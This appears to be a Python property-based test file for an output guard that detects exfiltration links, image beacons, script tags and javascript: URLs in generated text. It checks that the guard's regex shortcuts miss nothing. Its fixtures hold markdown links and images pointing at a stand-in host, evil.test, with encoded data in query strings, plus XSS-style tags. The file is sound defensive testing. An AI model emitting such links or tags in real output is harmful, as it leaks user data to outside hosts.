"""The output guard skips a regex's pass when a literal every match contains is absent.

`output._GATES` names, per regex, the literal it cannot match without. The
skip is sound only if that holds for every match, checked here on texts made
of the pieces the patterns are built from (brackets, parentheses, colons,
slashes, tags, quotes, schemes), and on the guard's own test shapes: the
guard with and without the gates finds the same.
"""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from gateway_cli.guards import output
from gateway_cli.guards.output import _GATES, OutputGuard

_PIECES = ["[", "]", "(", ")", "!", ":", "/", "//", "<", ">", "\"", "'", "=", " ", "\n",
           "x", "img", "a", "src", "href", "http", "https", "HTTPS", "://", "evil.test",
           "?q=", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldY", "javascript:", "onload", "![", "](",
           "]:", "\t", "script", "<a href=", "mailto:"]
# Whole constructs, so the comparison meets every kind of finding, gated or not.
_D = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldY"
_CONSTRUCTS = [f"[x](https://evil.test/?q={_D})", "![i](http://evil.test/a.png)",
               f"[r]: https://evil.test/p?q={_D}", f"[s]:\thttps://evil.test/s?q={_D}",
               "![r][r]", f"<https://evil.test/x?d={_D}>",
               '<img src="https://evil.test/i.png">', "<script>", "<iframe src=x>",
               '<a href="javascript:alert(1)">', '<b onclick="go()">', f"http://evil.test/?q={_D}",
               "[doc](https://docs.invalid/a)", "data:text/html;base64,PGI+"]

_texts = st.lists(st.sampled_from(_PIECES + _CONSTRUCTS), max_size=24).map("".join)


def test_the_gated_regexes_are_the_ones_the_guard_skips() -> None:
    assert {p.pattern for p, _ in _GATES} == {
        output._INLINE.pattern, output._REF_DEF.pattern, output._AUTOLINK.pattern,
        output._TAG.pattern, output._BARE_URL.pattern}


@settings(max_examples=400, deadline=None)
@given(_texts)
def test_every_match_contains_its_gate_literal(text: str) -> None:
    for pattern, literal in _GATES:
        for m in pattern.finditer(text):
            assert literal in m.group(0), (pattern.pattern, text)


class _Ungated(str):
    """A text for which every `in` answers True: the guard then runs every pass."""

    def __contains__(self, key: object) -> bool:
        return True


_GUARD = OutputGuard(canary=None, link_allowlist=frozenset({"docs.invalid"}))


@settings(max_examples=300, deadline=None)
@given(_texts)
def test_the_guard_finds_the_same_with_and_without_the_gates(text: str) -> None:
    assert _GUARD.scan(text) == _GUARD.scan(_Ungated(text))


def test_each_construct_alone_and_in_prose_is_found_as_without_the_gates() -> None:
    found = 0
    for construct in _CONSTRUCTS:
        for text in (construct, f"Some prose, then {construct} and more prose."):
            gated = _GUARD.scan(text)
            assert gated == _GUARD.scan(_Ungated(text)), text
            found += bool(gated)
    assert found >= 16  # most constructs are findings: the comparison is not vacuous


def test_prose_without_the_literals_still_finds_what_it_holds() -> None:
    """A gate is a literal, not a guess about the text: a bare data URL is still found."""
    guard = OutputGuard(canary=None, link_allowlist=frozenset())
    text = "See https://evil.test/c?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY for details."
    assert [f.kind for f in guard.scan(text)] == ["exfil_link"]
    assert re.search(r"\]\(|\]:|<", text) is None
